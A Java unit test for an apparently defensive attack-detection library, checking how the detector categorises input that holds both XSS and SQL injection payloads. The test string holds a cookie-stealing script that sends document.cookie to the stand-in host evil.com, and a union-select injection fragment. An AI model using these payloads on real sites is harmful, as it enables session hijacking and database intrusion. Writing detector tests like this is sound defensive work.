package org.guardagent.detect.model;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Objects;
import java.util.Set;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

/** Where only some categories count. */
class CategoriesTest {

  private static final String TWO =
      "<script>document.location='//evil.com?'+document.cookie</script> and in the second half of"
          + " this text there stands, after some words that say nothing, 1' union select 1,2--";

  private final AttackModel.Desk desk = AttackModel.load().desk();

  @Test
  void louderAttackOfAnotherCategoryHidesNothing() {
    assertThat(category(null)).isEqualTo("xss");
    assertThat(category(Set.of("sqli"))).isEqualTo("sqli");
    assertThat(category(Set.of("xss"))).isEqualTo("xss");
    assertThat(desk.judge(TWO, TextKind.VALUE, Set.of("ldap"), 1)).isNull();
  }

  private String category(@Nullable Set<String> categories) {
    return Objects.requireNonNull(desk.judge(TWO, TextKind.VALUE, categories, 1)).category();
  }
}
